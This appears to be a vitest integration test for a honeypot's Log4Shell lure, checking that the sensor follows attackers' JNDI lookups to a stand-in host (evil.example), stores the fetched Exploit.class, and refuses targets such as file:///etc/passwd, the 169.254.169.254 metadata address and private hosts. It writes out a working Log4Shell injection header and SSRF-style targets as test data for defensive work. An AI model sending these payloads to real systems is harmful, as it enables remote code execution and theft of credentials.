import { createHash } from 'node:crypto'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pino } from 'pino'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { BrokerServer } from '../../src/broker/server.ts'
import { Broker } from '../../src/config/broker.ts'
import { loadSettings } from '../../src/config/load.ts'
import type { SundewEvent } from '../../src/events/schema.ts'
import { Instance, planOf } from '../../src/instance.ts'
import { openArtifactStore } from '../../src/store/artifacts.ts'
import { ldapServer, reference, webServer } from './far-ends.ts'

/** A sensor with the lure of Log4Shell and the output `samples`, the broker, and attackers' servers: all that is real but the name server. */
const CLASS = Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.from('\x01\x00\x04Code')])
const sha256 = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex')

let folder: string
let broker: BrokerServer
let instance: Instance
let port: number
const events: SundewEvent[] = []

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'sundew-samples-'))
  broker = await BrokerServer.start({
    settings: Broker.parse({ port: 0, allow: ['127.0.0.0/8'] }),
    token: 'b4oker',
    log: { info: () => undefined },
    own: () => new Set(),
    resolve: async (name) => (name === 'evil.example' ? ['127.0.0.1'] : name === 'inside.example' ? ['10.0.0.1'] : []),
  })
  const config = join(folder, 'sundew.yaml')
  const settings = {
    data: join(folder, 'data'),
    prompts: join(process.cwd(), 'prompts'),
    profile: 'mini',
    llm: { enabled: false },
    console: { enabled: false },
    lures: [
      { lure: 'log4shell', ports: [0, 0, 0, 0, 0] },
      ...['ssh', 'http', 'ntp', 'redis', 'ssh-tarpit'].map((lure) => ({ lure, enabled: false })),
    ],
    outputs: [{ kind: 'samples', url: `http://127.0.0.1:${broker.port}/jobs`, token: 'b4oker', batch: { waitMs: 10 } }],
  }
  writeFileSync(config, JSON.stringify(settings))
  const plan = planOf(loadSettings({ config, env: {} }))
  plan.uses = plan.uses.filter((use) => use.lure.name === 'log4shell')
  instance = await Instance.start(plan, pino({ level: 'silent' }))
  instance.bus.subscribe((event) => events.push(event))
  // The one that is 8080 elsewhere: an application without TLS.
  port = instance.sensor.ports()[2]!.port
}, 60_000)

afterAll(async () => {
  await instance.stop('test')
  await broker.close()
  rmSync(folder, { recursive: true })
})

/** What an attacker sends, and the event of what became of it. */
async function attack(target: string): Promise<SundewEvent> {
  const of = (event: SundewEvent): boolean => event.type === 'sample' && event.data.target === target
  const answer = await fetch(`http://127.0.0.1:${port}/`, { headers: { 'x-api-version': `$\{jndi:${target}}` } })
  await answer.arrayBuffer()
  await expect.poll(() => events.some(of), { timeout: 15_000, interval: 20 }).toBe(true)
  return events.find(of) as SundewEvent
}

const urlsOf = ({ data }: SundewEvent): { url: string; outcome: string; reason?: string }[] =>
  data.urls as { url: string; outcome: string; reason?: string }[]

describe('a lookup at the lure of Log4Shell', () => {
  it('leads to the class, which is stored, and says by which way', async () => {
    const web = await webServer((_, response) => response.end(CLASS))
    const codeBase = `http://evil.example:${web.port}/`
    const directory = await ldapServer(reference(codeBase))
    const target = `ldap://evil.example:${directory.port}/Exploit`
    const sample = await attack(target)
    expect(sample).toMatchObject({ lure: 'log4shell', srcIp: '127.0.0.1', data: { outcome: 'kept' } })
    expect(urlsOf(sample)).toEqual([
      { url: target, outcome: 'kept' },
      { url: `${codeBase}Exploit.class`, outcome: 'kept' },
    ])
    const files = sample.data.files as { sha256: string; url: string }[]
    expect(files.at(-1)).toEqual({ sha256: sha256(CLASS), size: CLASS.length, url: `${codeBase}Exploit.class` })
    expect(openArtifactStore(join(folder, 'data', 'artifacts')).get(sha256(CLASS))).toEqual(CLASS)
    const lookup = events.find(({ type, session }) => type === 'jndi.lookup' && session === sample.session)
    expect(lookup?.data).toMatchObject({ scheme: 'ldap', port: directory.port })
  })

  it('leads to ten of eleven addresses, and to as many the second time', async () => {
    const web = await webServer((_, response) => response.end(CLASS))
    const bases = Array.from({ length: 10 }, (_, i) => `http://evil.example:${web.port}/${i}/`)
    const directory = await ldapServer(reference(...bases))
    for (const round of ['first', 'second']) {
      const followed = urlsOf(await attack(`ldap://evil.example:${directory.port}/${round}`))
      expect(followed.map(({ outcome }) => outcome)).toEqual([...new Array<string>(10).fill('kept'), 'refused'])
      expect(followed.at(-1)).toMatchObject({ url: `${bases[9]}Exploit.class`, reason: 'more than 10 addresses' })
    }
    expect(web.asked).toHaveLength(18)
  })

  it.each([
    ['file:///etc/passwd', 'scheme file'],
    ['http://169.254.169.254/latest/meta-data/', 'a private, reserved or relied-on address'],
    ['ldap://127.0.0.1:1389/a', 'the address that was attacked'],
    ['ldap://inside.example/a', 'inside.example leads to 10.0.0.1, which is no public address'],
    ['ldap://evil.example:25/a', 'port 25 is one of mail'],
  ])('to %s is refused, and that is written down', async (target, reason) => {
    expect((await attack(target)).data).toMatchObject({ outcome: 'refused', reason, files: [] })
  })

  it.each([
    'http://10.0.0.1/admin',
    'http://169.254.169.254/',
    'http://inside.example/',
    'file:///etc/passwd',
  ])('that is sent on to %s ends there, and that is written down', async (to) => {
    const web = await webServer((_, response) => response.writeHead(302, { location: to }).end())
    const target = `http://evil.example:${web.port}/a`
    const { data } = await attack(target)
    expect(data).toMatchObject({
      outcome: 'refused',
      files: [],
      urls: [
        { url: target, outcome: 'moved' },
        { url: to, outcome: 'refused' },
      ],
    })
  })
})
